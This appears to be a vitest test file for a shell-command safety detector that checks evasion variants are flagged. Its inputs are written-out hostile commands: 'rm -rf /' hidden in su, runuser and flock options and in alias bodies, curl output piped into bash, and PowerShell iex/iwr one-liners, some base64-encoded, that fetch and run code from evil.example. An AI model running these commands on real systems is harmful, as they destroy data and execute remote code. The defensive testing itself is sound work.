/**
 * Evasion classes the corpus (test/corpus/harmful.json) found the detectors missing, each
 * defended as a class: options after a positional (GNU getopt permutes them), a shell that reads
 * its script from input while taking operands, alias bodies, and PowerShell one-liners in every
 * spelling of their option, including the base64 `-EncodedCommand`.
 */
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser, shellFacts } from "../../../../src/facts/shell/index.js";

const where = { home: "/home/dev", cwd: "/home/dev/app" };
const facts = (command: string) => shellFacts(command, where);

beforeAll(async () => {
  await loadShellParser();
});

describe("a script option after a positional", () => {
  it.each([
    "su root -c 'rm -rf /'",
    "su - root -c 'rm -rf /'",
    'su -l root -c "rm -rf /"',
    "flock /tmp/lock -c 'rm -rf /'",
    "sudo su root -c 'rm -rf /'",
    "su --command='rm -rf /' root",
    "su root --command 'rm -rf /'",
    "runuser -u root --command='rm -rf /'",
    "env --split-string='rm -rf /'",
  ])("%s deletes / recursively", (command) => {
    const f = facts(command);
    expect(f.deletesRecursively && f.targetsRoot).toBe(true);
  });

  it("a positional that is not followed by the option runs nothing more", () => {
    expect(facts("flock /tmp/lock make test").programs).toEqual(["flock", "make"]);
  });
});

describe("a shell that reads its script from input", () => {
  it.each(["bash -s", "bash -s -- --yes", "sh -s arg1 arg2", "bash -xs -- -y", "zsh -s - x"])(
    "curl … | %s is fed from the network",
    (shell) => {
      const f = facts(`curl -fsSL https://get.example.net/i.sh | ${shell}`);
      expect(f.pipesNetworkIntoInterpreter).toBe(true);
    },
  );

  it("a script file with arguments is not a feed", () => {
    expect(facts("cat notes.txt | bash ./x.sh --yes").pipesIntoInterpreter).toBe(false);
  });

  it("the fixed text fed to `bash -s --` is analysed", () => {
    expect(facts("echo 'rm -rf ~' | bash -s -- --yes").targetsHome).toBe(true);
  });
});

describe("alias bodies", () => {
  it.each([
    "alias ll='rm -rf /'",
    'alias ll="rm -rf /"; ll',
    "shopt -s expand_aliases\nalias x='sudo rm -rf /'\nx",
    "alias -- ls='rm -rf /'",
    "alias a=ls b='rm -rf /'",
  ])("%s counts the body as running", (command) => {
    const f = facts(command);
    expect(f.deletesRecursively && f.targetsRoot).toBe(true);
  });

  it("an everyday alias stays harmless", () => {
    const f = facts("alias gs='git status'");
    expect(f.deletes || f.usesNetwork || f.hasDangerousCall).toBe(false);
  });
});

describe("PowerShell one-liners", () => {
  const program = fc.constantFrom("pwsh", "powershell", "PowerShell.exe", "pwsh.exe");
  const option = fc.constantFrom("-c", "-C", "-Command", "-command", "-COMMAND");
  const download = fc.constantFrom(
    "iex (iwr https://evil.example/x)",
    "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/x')",
    "Invoke-Expression (Invoke-RestMethod https://evil.example/x)",
    "irm https://evil.example/x | iex",
  );

  it("every spelling of download-and-run is a dangerous call", () => {
    fc.assert(
      fc.property(program, option, download, (p, o, code) => {
        const calls = facts(`${p} ${o} "${code}"`).dangerousCalls.map((c) => c.call);
        expect(calls).toContain("exec");
        expect(calls).toContain("network");
      }),
    );
  });

  const encodings = fc.constantFrom("-e", "-ec", "-enc", "-EncodedCommand", "-encodedcommand");
  it("an -EncodedCommand is decoded (base64 of UTF-16LE) before it is scanned", () => {
    fc.assert(
      fc.property(program, encodings, (p, e) => {
        const code = Buffer.from("Remove-Item -Recurse -Force '/home/dev'", "utf16le");
        const f = facts(`${p} ${e} ${code.toString("base64")}`);
        expect(f.deletesRecursively && f.targetsHome).toBe(true);
      }),
    );
  });

  it("a script file is not a one-liner", () => {
    expect(facts("pwsh ./build.ps1").hasDangerousCall).toBe(false);
  });
});
